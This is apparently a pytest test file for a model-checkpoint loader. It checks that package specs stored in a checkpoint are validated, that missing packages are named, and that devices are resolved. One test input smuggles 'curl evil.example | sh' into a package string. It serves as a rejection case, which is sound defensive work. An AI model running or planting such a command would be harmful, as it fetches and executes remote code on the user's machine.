"""What a checkpoint says of packages and devices, checked where it is opened."""

import json
from pathlib import Path
from typing import Any

import pytest
import torch

from nested_lightning import bootstrap, from_checkpoint
from nested_lightning.app.checkpoints.recipe import CHECKPOINT_KEY
from nested_lightning.app.errors import UserError


@pytest.fixture
def checkpoint(small_settings: dict[str, Any], tmp_path: Path) -> Path:
    """A checkpoint with initial weights."""
    model = bootstrap(small_settings).multi_feature.model()
    path = tmp_path / "model.ckpt"
    torch.save({"state_dict": model.state_dict(), CHECKPOINT_KEY: model.recipe.json}, path)
    return path


def _change(checkpoint: Path, **parts: Any) -> None:
    content = torch.load(checkpoint, weights_only=True)
    recipe = json.loads(content[CHECKPOINT_KEY]) | parts
    torch.save(content | {CHECKPOINT_KEY: json.dumps(recipe)}, checkpoint)


def test_a_checkpoint_of_our_own_parts_needs_no_package(checkpoint: Path) -> None:
    content = torch.load(checkpoint, weights_only=True)

    assert json.loads(content[CHECKPOINT_KEY])["packages"] == {}


@pytest.mark.parametrize("text", ["a==1; curl evil.example | sh", "--index-url=x", "a==1\nb", "https://x==1"])
def test_a_checkpoint_can_put_nothing_but_a_package_before_a_person(checkpoint: Path, text: str) -> None:
    _change(checkpoint, packages={"multi_feature.head": text})

    with pytest.raises(UserError, match="its recipe is damaged at packages"):
        from_checkpoint(checkpoint)


def test_a_package_that_is_missing_matters_only_where_something_is_not_known(checkpoint: Path) -> None:
    _change(checkpoint, packages={"multi_feature.head": "elsewhere==1.0"})
    from_checkpoint(checkpoint)

    with pytest.raises(UserError, match=r"the package elsewhere 1\.0 is needed for multi_feature\.head"):
        from_checkpoint(checkpoint, changes={"multi_feature": {"head": {"kind": "theirs"}}})


def test_the_device_is_a_setting_and_one_that_is_not_there_is_named(checkpoint: Path) -> None:
    placed = from_checkpoint(checkpoint, changes={"prediction": {"device": "auto"}})
    assert placed.multi_feature.model().device.type in ("cpu", "cuda", "mps")

    with pytest.raises(UserError, match=r"prediction.device = 'cuda:77': there is no such device here"):
        from_checkpoint(checkpoint, device="cuda:77")
